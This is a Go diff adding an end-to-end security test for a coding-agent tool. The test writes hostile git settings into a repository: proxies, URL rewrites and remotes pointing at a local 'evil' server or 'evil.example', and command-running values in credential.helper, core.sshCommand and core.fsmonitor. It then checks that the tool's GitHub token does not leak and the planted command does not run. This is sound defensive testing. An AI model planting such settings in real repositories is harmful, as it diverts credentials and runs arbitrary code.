@@ -3,11 +3,14 @@ package e2e
 import (
 	"context"
 	"fmt"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"slices"
 	"strings"
+	"sync"
 	"syscall"
 	"testing"
 	"time"
@@ -158,4 +161,72 @@ func TestDeviceFlowOutlivesTheClient(t *testing.T) {
 		got := m.signedIn()
 		return len(got) == 1 && got[0].User == "ada" && got[0].Source == "hf"
 	})
+}
+
+// A repository's own configuration, which every agent in it can write, says
+// nothing of where a token goes and what is run.
+func TestTokenDoesNotFollowTheRepository(t *testing.T) {
+	m := newMachine(t)
+	h := m.hub()
+	token := h.Token("ada")
+	if _, err := h.CreateRepo("acme/demo", forgetest.Settings{}); err != nil {
+		t.Fatal(err)
+	}
+	var mu sync.Mutex
+	var caught []string
+	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		caught = append(caught, fmt.Sprintf("%s %s %q", r.Method, r.URL, r.Header.Get("Authorization")))
+		w.WriteHeader(http.StatusUnauthorized)
+	}))
+	defer evil.Close()
+	home := filepath.Join(m.dir, "home")
+	if err := os.WriteFile(filepath.Join(home, ".gitconfig"), []byte(h.GitConfig()), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	m.repo = filepath.Join(m.dir, "demo")
+	if err := os.Mkdir(m.repo, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	m.git("clone", "-q", "git@github.com:acme/demo.git", ".")
+	m.env = append(m.env, "GH_TOKEN="+token)
+	if at := os.Getenv("HF_TEST_GIT_SPICE"); at != "" {
+		m.env = append(m.env, "HF_GIT_SPICE_BIN="+at)
+	}
+	id := m.create("write a.txt: hello\ncommit: Add a", "--permission", "all", "--branch", "feat")
+	m.idle(id)
+	// From here on: the agent's own git would obey.
+	planted := filepath.Join(m.dir, "planted")
+	program := fmt.Sprintf("touch %s; exit 1", planted)
+	for key, value := range map[string]string{
+		"spice.forge.github.url": evil.URL, "spice.forge.github.apiUrl": evil.URL, "spice.shorthand.log": "!" + program, "spice.shorthand.branch": "!" + program,
+		"github.api": evil.URL, "hub.host": "evil.example", "http.proxy": evil.URL, "https.proxy": evil.URL,
+		"url." + evil.URL + "/.insteadOf": "git@github.com:", "url." + evil.URL + "/p/.pushInsteadOf": "git@github.com:",
+		"remote.origin.pushurl": evil.URL + "/acme/demo.git", "remote.origin.proxy": evil.URL,
+		"core.sshCommand": program, "credential.helper": "!" + program, "core.fsmonitor": program, "core.hooksPath": m.dir,
+	} {
+		m.git("config", key, value)
+	}
+	if r := m.try("pr", "create", id); r.code != 0 || !h.Saw(token, "POST /repos/acme/demo/pulls") {
+		t.Errorf("pr create: exit %d\n%s%s\n%v", r.code, r.out, r.err, h.Requests())
+	}
+	if r := m.try("pr", "status", id); !strings.Contains(r.out, "#1") {
+		t.Errorf("pr status: exit %d\n%s%s", r.code, r.out, r.err)
+	}
+	for _, args := range [][]string{{"push", id}, {"sync", id}, {"stack"}, {"stack", "submit", id}, {"stack", "sync"}, {"repo", "overview"}, {"merge", id, "--squash"}} {
+		r := m.try(args...)
+		t.Logf("hf %s: exit %d\n%s", strings.Join(args, " "), r.code, r.err)
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	for _, c := range caught {
+		t.Errorf("where the repository said: %s", c)
+	}
+	if _, err := os.Stat(planted); err == nil {
+		t.Error("a program of the repository's ran")
+	}
+	if p := h.Requests(); !slices.ContainsFunc(p, func(r forgetest.Request) bool { return r.Is("repository") }) {
+		t.Error("nothing was polled")
+	}
 }
